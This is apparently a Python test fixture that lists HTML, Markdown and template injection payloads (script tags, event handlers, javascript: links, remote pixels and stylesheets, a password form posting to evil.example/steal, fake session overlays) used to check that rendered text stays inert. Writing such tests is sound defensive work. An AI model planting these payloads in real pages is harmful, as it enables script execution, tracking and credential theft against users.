"""Strings that a document, a title, a label, a question or feedback may hold, and that must do nothing anywhere.

One that ran would set the attribute `RAN` on the page's root element; one that loaded something would ask `HOST`.
"""

HOST = "evil.example"
RAN = "data-payload-ran"
_DO = f"document.documentElement.setAttribute('{RAN}','1')"

SCRIPTS = (
    f"<script>{_DO}</script>",
    f"</script><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"</style><script>{_DO}</script>",
    f"</textarea><script>{_DO}</script>",
    f'<script src="https://{HOST}/a.js"></script>',
    f"<ScRiPt >{_DO}</ScRiPt>",
    f"--><script>{_DO}</script><!--",
    f'"><script>{_DO}</script>',
    f"'><script>{_DO}</script>",
    f'{{{{constructor.constructor("{_DO}")()}}}}',
    f"${{{_DO}}}",
)
HANDLERS = (
    f'<img src=x onerror="{_DO}">',
    f'<svg onload="{_DO}"></svg>',
    f'<body onload="{_DO}">',
    f'<details open ontoggle="{_DO}">open</details>',
    f'" autofocus tabindex=1 onfocus="{_DO}" x="',
    f"' autofocus tabindex=1 onfocus='{_DO.replace(chr(39), chr(34))}' x='",
    f'<video><source onerror="{_DO}"></video>',
    f'<input autofocus onfocus="{_DO}">',
)
LINKS = (
    f'<a href="javascript:{_DO}">press here</a>',
    f"[press here](javascript:{_DO.replace('(', '%28').replace(')', '%29')})",
    f"<javascript:{_DO}>",
    f'<a href="data:text/html,<script>{_DO}</script>">press here</a>',
    "[press here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f'<iframe src="javascript:parent.{_DO}"></iframe>',
    f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
)
IMAGES = (
    f'<img src="https://{HOST}/pixel.png">',
    f"![a picture](https://{HOST}/pixel.png)",
    f'![a picture][p]\n\n[p]: https://{HOST}/pixel.png "p"',
    f'<object data="https://{HOST}/o.svg"></object>',
)
STYLES = (
    f'<style>@import url("https://{HOST}/a.css");</style>',
    f'<link rel="stylesheet" href="https://{HOST}/a.css">',
    f"<p style=\"background:url('https://{HOST}/b.png')\">words</p>",
)
FORMS = (
    f'<form action="https://{HOST}/steal"><input name="password"><button>Sign in</button></form>',
    f'<button formaction="https://{HOST}/steal">Go on</button>',
)
OVERLAYS = (
    '<div style="position:fixed;inset:0;z-index:99999;background:white">Your session has ended</div>',
    "<dialog open>Your session has ended</dialog>",
)
SPEAKERS = (
    f'<a class="citation" href="https://{HOST}/">— Public partner A, B.4.i</a>',
    f"> “I never said this” [1]\n>\n> — [Public partner A](https://{HOST}/), B.4.i, lines 1–2",
)

CLASSES = (SCRIPTS, HANDLERS, LINKS, IMAGES, STYLES, FORMS, OVERLAYS, SPEAKERS)
PAYLOADS = tuple(payload for kind in CLASSES for payload in kind)
#: One of each class, and one of each language other than HTML, for what takes long.
ONE_OF_EACH = (*(kind[0] for kind in CLASSES), SCRIPTS[10], LINKS[1], IMAGES[1])
